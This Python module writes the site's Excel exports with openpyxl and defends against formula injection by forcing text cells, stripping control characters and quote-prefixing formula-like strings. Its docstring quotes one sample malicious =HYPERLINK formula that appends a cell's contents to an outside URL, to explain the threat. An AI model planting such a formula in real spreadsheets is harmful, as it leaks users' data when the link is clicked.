"""Every spreadsheet the site writes is written here: text is stored as text.

openpyxl takes any string that starts with "=" for a formula, so a member named
``=HYPERLINK("http://…?"&A1,"Xem hồ sơ")`` would become a live link that sends the sheet's
contents away when clicked, and refuses, with an exception, a string holding a control
character a form let through. Here every string is a string cell (never a formula or an error
value), control characters are dropped, and a string that starts like a formula ("=", "+",
"-", "@") is marked quote-prefixed, so that editing the cell in Excel keeps it text. The value
itself is unchanged: a list exported here imports back as it was.

Workbooks are openpyxl's write-only kind: rows go out as they come, in constant memory.
"""

import io
from collections.abc import Iterable
from typing import Any

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.styles import Font, PatternFill
from openpyxl.utils import get_column_letter

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# The longest text a cell holds.
MAX_TEXT = 32767
BOLD = Font(bold=True)


def workbook() -> Workbook:
    return Workbook(write_only=True)


def add_sheet(book: Workbook, title: str, *, widths: Iterable[int] = (), freeze: str | None = None):
    """A sheet with its columns' widths (in characters) and, when given, the first cell that
    scrolls (``"B2"``: the first row and column stay in view)."""
    sheet = book.create_sheet(title)
    for index, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = width
    if freeze:
        sheet.freeze_panes = freeze
    return sheet


def fill(rgb: str) -> PatternFill:
    """A solid background of colour ``rgb`` ("F8D7DA"), for ``cell(fill=…)``."""
    return PatternFill("solid", fgColor=rgb)


def cell(
    sheet,
    value: Any,
    *,
    bold: bool = False,
    number_format: str | None = None,
    fill: PatternFill | None = None,
) -> WriteOnlyCell:
    """One cell of ``sheet``: strings as text, numbers and dates as themselves."""
    if isinstance(value, str):
        text = ILLEGAL_CHARACTERS_RE.sub("", value)[:MAX_TEXT]
        written = WriteOnlyCell(sheet, value=text or None)
        if text:
            written.data_type = "s"
            written.quotePrefix = text.startswith(FORMULA_STARTS)
    else:
        written = WriteOnlyCell(sheet, value=value)
    if number_format:
        written.number_format = number_format
    if bold:
        written.font = BOLD
    if fill is not None:
        written.fill = fill
    return written


def append(sheet, values: Iterable[Any], *, bold: bool = False) -> None:
    """A row of values (or of cells made with ``cell``)."""
    sheet.append([v if isinstance(v, Cell) else cell(sheet, v, bold=bold) for v in values])


def save(book: Workbook, fileobj=None) -> bytes | None:
    """Writes the workbook to ``fileobj``, or returns it as bytes."""
    if fileobj is not None:
        book.save(fileobj)
        return None
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
